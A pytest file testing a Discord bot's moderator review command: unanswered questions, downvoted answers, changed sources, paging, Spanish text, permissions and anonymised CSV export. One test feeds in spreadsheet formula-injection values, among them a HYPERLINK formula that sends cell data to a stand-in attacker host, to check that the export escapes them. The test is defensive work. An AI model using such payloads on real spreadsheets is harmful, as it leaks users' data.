"""Those who manage a server review what was not answered, voted down, or quoted from what has changed since."""

import csv
import io
import json
from dataclasses import dataclass

import pytest
import pytest_asyncio

from tests.bot.discord.conftest import World
from tests.bot.discord.outcomes import outcome
from tests.bot.discord.test_admin import ONLY_MANAGERS, ask, new_server, remove
from tests.discord_server import Channel, Message, Person, Upload

pytestmark = [pytest.mark.model, pytest.mark.asyncio(loop_scope="module")]

HEAD = "**To be reviewed**: {} without an answer, {} voted down, {} whose quote is no longer in its article\n-# {}"
NONE = "Nothing of this kind in this time."
TITLE, MILL = "Mill of Orsk", "The mill of Orsk grinds nine tonnes of rye a day."
WHAT = "What does the mill of Orsk grind?"
GONE = "This is too old: what was shown is no longer kept. Ask again."


@dataclass
class Room:
    """A channel of a server of its own, with who manages it and two members."""

    channel: Channel
    mona: Person
    bob: Person
    carmen: Person


@pytest_asyncio.fixture(loop_scope="module")
async def room(world: World) -> Room:
    """A new server with one article."""
    mona = world.discord.add_person("mona")
    room = Room(new_server(world.discord, mona, world.bob, world.carmen), mona, world.bob, world.carmen)
    await give(room, MILL)
    return room


async def give(room: Room, text: str, title: str = TITLE, **scope: object) -> None:
    """Have the article of a title say something."""
    line = json.dumps({"id": title, "title": title, "text": text}).encode()
    added = await room.mona.slash(room.channel, "library add", file=Upload(f"{title}.jsonl", line), **scope)
    told = await outcome(added)
    if told.buttons and told.buttons[0].label == "Replace":
        await (await room.mona.click(told, "Replace")).message()


async def opened(who: Person, where: Channel) -> Message:
    """What /review shows, to the manager alone."""
    message = await (await who.slash(where, "review")).message()
    assert message.ephemeral
    return message


async def chosen(room: Room, message: Message, what: str, value: str) -> Message:
    """What is shown after something else was chosen."""
    control = next(one for one in message.now.selects if f":{what}:" in one.custom_id)
    return await (await room.mona.choose(message.now, control.custom_id, [value])).message()


async def vote_down(who: Person, answer: Message, reason: str, remark: str = "") -> None:
    """Vote an answer down, and tell why."""
    form = await who.click(answer, "👎")
    await (await who.submit(form, {"reason": reason, "remark": remark})).message()


async def answered(room: Room, who: Person, question: str = WHAT) -> Message:
    """What somebody is answered, for all to see."""
    return await (await who.slash(room.channel, "ask", question=question)).message()


def exported(room: Room, message: Message) -> tuple[bytes, list[list[str]]]:
    """The bytes of a file that a message has, and its rows."""
    (attachment,) = message.attachments
    data = room.mona.server.uploads[int(attachment["id"])].data
    assert (attachment["filename"], message.ephemeral) == ("review.csv", True)
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


async def test_nothing_to_review(room: Room) -> None:
    """A server in which nothing was asked has nothing to be reviewed, of whatever kind and time."""
    message = await opened(room.mona, room.channel)
    empty = HEAD.format("0 questions", "0 answers", "0 answers", NONE)
    assert message.text == empty
    for what, value in (("kind", "down"), ("kind", "changed"), ("days", "7"), ("days", "all")):
        assert (await chosen(room, message, what, value)).text == empty


async def test_unanswered(room: Room, world: World) -> None:
    """Questions that were not answered are counted, similar ones together, those asked most often first."""
    asked = [(room.bob, "How tall is Grimbold?"), (room.bob, "Who sells saffron in Tarnopolia?")]
    asked += [(room.carmen, "How tall is Grimbold?"), (room.carmen, "how tall is grimbold"), (room.bob, WHAT)]
    for who, question in asked:
        await ask(who, room.channel, question)
    message = await opened(room.mona, room.channel)
    assert message.text.splitlines() == [
        *HEAD.format("4 questions", "0 answers", "0 answers", "Page 1 of 1").splitlines(),
        "3× How tall is Grimbold?",
        "1× Who sells saffron in Tarnopolia?",
    ]
    for person in (room.bob, room.carmen):
        assert person.name not in message.text.lower()
        assert str(person.id) not in message.text


async def test_voted_down(room: Room, world: World) -> None:
    """Answers voted down are shown with their votes, the reasons by how often they were given, and what was written."""
    first, second = (
        await answered(room, room.bob),
        await answered(room, room.carmen, "What does the mill of orsk grind?"),
    )
    await vote_down(room.bob, first, "wrong", "It grinds *oats*. @everyone")
    await vote_down(room.carmen, first, "old", "Ask\nagain.")
    await vote_down(room.carmen, second, "old")
    await (await room.mona.click(second, "👍")).message()
    message = await chosen(room, await opened(room.mona, room.channel), "kind", "down")
    assert message.text.splitlines()[1:] == [
        "-# Page 1 of 1",
        "2× What does the mill of orsk grind?",
        "👍 1, 👎 3 · It is out of date: 2 · It is wrong: 1",
        "> It grinds \\*oats\\*. \\@everyone",
        "> Ask again.",
    ]
    await (await room.carmen.slash(room.channel, "privacy delete")).message()
    left = await chosen(room, message, "days", "7")
    assert left.text.splitlines()[2:] == [
        "1× What does the mill of Orsk grind?",
        "👍 0, 👎 1 · It is wrong: 1",
        "> It grinds \\*oats\\*. \\@everyone",
    ]


async def test_more_remarks_than_are_shown(room: Room, world: World) -> None:
    """Of many remarks those are shown that there is room for, and the file has all."""
    answer = await answered(room, room.bob)
    for number in range(5):
        person = world.discord.add_person(f"voter{number}")
        assert room.channel.guild is not None
        room.channel.guild.join(person)
        await vote_down(person, answer, "wrong", f"{number} {'word ' * 30}")
    message = await chosen(room, await opened(room.mona, room.channel), "kind", "down")
    lines = message.text.splitlines()
    assert [line[:3] for line in lines[4:7]] == ["> 0", "> 1", "> 2"]
    assert lines[7:] == ["-# and 2 more remarks; the file has all of them"]
    _, rows = exported(room, await (await room.mona.click(message, "Export (CSV)")).message())
    assert [number for number in range(5) if f"{number} word word" in rows[1][-1]] == [0, 1, 2, 3, 4]


async def test_changed_sources(room: Room) -> None:
    """An answer is reviewed from when its quote no longer stands in its article, or that is gone."""
    await answered(room, room.bob)
    message = await chosen(room, await opened(room.mona, room.channel), "kind", "changed")
    assert message.text == HEAD.format("0 questions", "0 answers", "0 answers", NONE)
    await give(room, f"News of the mill. {MILL}")  # it moved, and still stands there
    assert (await chosen(room, message, "kind", "changed")).text == message.text
    await give(room, "The mill of Orsk grinds four tonnes of wheat a day.")
    changed = await chosen(room, message, "kind", "changed")
    assert changed.text.splitlines() == [
        *HEAD.format("0 questions", "0 answers", "one answer", "Page 1 of 1").splitlines(),
        f"1× {WHAT}",
        f"Quoted from: {TITLE}",
    ]
    await remove(room.mona, room.channel, TITLE)
    assert (await chosen(room, message, "kind", "changed")).text.splitlines()[3] == "Its article is no longer there."


async def test_pages(room: Room) -> None:
    """Eight questions stand on a page, and all of them in the file."""
    questions = [
        *("How tall is Grimbold?", "Who sells saffron in Tarnopolia?", "When did the comet Vashti return?"),
        *("Which hospital treats gout in Oslo?", "Why was the opera Felsina banned?", "What does a tram ticket cost?"),
        *("Where do albatrosses nest?", "How is gunpowder mixed?", "Who taught Ravel the piano?"),
    ]
    for question in questions:
        await ask(room.bob, room.channel, question)
    message = await opened(room.mona, room.channel)
    shown = message.text.splitlines()[2:]
    assert [button.label for button in message.buttons if button.label != "Answer this"] == ["Next", "Export (CSV)"]
    turned = await (await room.mona.click(message, "Next")).message()
    assert turned.text.splitlines()[1] == "-# Page 2 of 2"
    rest = turned.text.splitlines()[2:]
    assert (len(shown), len(rest)) == (8, 1)
    assert sorted(line.removeprefix("1× ") for line in [*shown, *rest]) == sorted(questions)
    back = await (await room.mona.click(turned, "Previous")).message()
    assert back.text == message.text
    _, rows = exported(room, await (await room.mona.click(back, "Export (CSV)")).message())
    assert sorted(row[0] for row in rows[1:]) == sorted(questions)


async def test_the_file(room: Room) -> None:
    """The file has a row for each question, nobody's name, and no cell that a spreadsheet would run."""
    formula = '=HYPERLINK("https://evil.example?"&A1,"x") grinds what?'
    for who, question in ((room.bob, formula), (room.carmen, formula)):
        await answered(room, who, question)
    answer = await answered(room, room.bob)
    await vote_down(room.bob, answer, "wrong", "+1+cmd")
    message = await opened(room.mona, room.channel)
    data, rows = exported(room, await (await room.mona.click(message, "Export (CSV)")).message())
    assert data.startswith(b'\xef\xbb\xbf"Question","Times asked",')
    assert rows[0][2:] == [
        *("First asked (UTC)", "Last asked (UTC)", "Outcome", "Confidence", "Quoted articles"),
        *("Votes up", "Votes down", "Reasons"),
    ]
    assert [(row[0], row[1], row[4], row[6:]) for row in rows[1:]] == [
        (f"'{formula}", "2", "not answered", ["", "0", "0", ""])
    ]
    await chosen(room, message, "kind", "down")
    data, rows = exported(room, await (await room.mona.click(message.now, "Export (CSV)")).message())
    assert [(row[0], row[1], row[4], row[6:]) for row in rows[1:]] == [
        (WHAT, "1", "answered", [TITLE, "0", "1", "It is wrong: 1; +1+cmd"])
    ]
    first, confidence = rows[1][2], float(rows[1][5])
    assert (len(first), 0 < confidence <= 1) == (16, True)
    for person in (room.bob, room.carmen, room.mona):
        assert person.name not in data.decode().lower()
        assert str(person.id) not in data.decode()


async def test_in_spanish(world: World) -> None:
    """All of it is in Spanish for those who read Spanish."""
    guild = world.discord.add_guild("Delta", locale="es-ES")
    guild.join(world.carmen, permissions="manage_guild")
    guild.join(world.bob)
    channel = guild.add_channel("general")
    await ask(world.bob, channel, "How tall is Grimbold?")
    message = await opened(world.carmen, channel)
    assert message.text.splitlines() == [
        "**Por revisar**: una pregunta sin respuesta, 0 respuestas con votos en contra, "
        "0 respuestas cuya cita ya no está en su artículo",
        "-# Página 1 de 1",
        "1× How tall is Grimbold?",
    ]
    options = [option["label"] for select in message.selects for option in select.options]
    assert options == [
        *("Preguntas sin respuesta", "Respuestas con votos en contra", "Citas de fuentes que han cambiado"),
        *("Últimos 7 días", "Últimos 30 días", "Todo lo que se guarda"),
    ]
    file = await (await world.carmen.click(message, "Exportar (CSV)")).message()
    assert file.text == "Sin nombres. Ábrelo en una hoja de cálculo."
    data = world.discord.uploads[int(file.attachments[0]["id"])].data.decode("utf-8-sig")
    assert data.splitlines()[0].split(",")[:2] == ['"Pregunta"', '"Veces preguntada"']


async def test_who_may_no_longer_manage(room: Room) -> None:
    """An open review shows nothing more to who may no longer manage the server, and nothing to anybody else."""
    await ask(room.bob, room.channel, "How tall is Grimbold?")
    message = await opened(room.mona, room.channel)
    guild = room.channel.guild
    assert guild is not None
    guild.members[room.mona.id].roles.clear()
    for custom_id in [one.custom_id for one in message.buttons if one.custom_id]:
        pressed = await room.mona.click(message, custom_id)
        told = await (pressed.next_message() if ":review:" in custom_id else pressed.message())
        assert told.text == ONLY_MANAGERS
    refused = await room.mona.choose(message, message.selects[0].custom_id, ["down"])
    assert (await refused.next_message()).text == ONLY_MANAGERS
